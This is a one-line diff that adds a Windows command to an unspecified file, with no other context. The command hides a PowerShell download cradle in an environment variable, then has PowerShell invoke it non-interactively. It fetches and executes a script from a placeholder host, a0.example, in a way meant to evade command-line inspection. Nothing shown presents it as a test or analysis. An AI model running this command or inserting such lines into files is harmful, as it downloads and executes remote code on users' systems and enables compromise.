@@ -1,0 +1,1 @@
+cmd /c "set kk=IEX (New-Object Net.WebClient).DownloadString('http://a0.example/p.txt')&& PowerShell -noninteractive  invoke-expression ([environment]::GetEnvironmentVariable('kk','process'))"
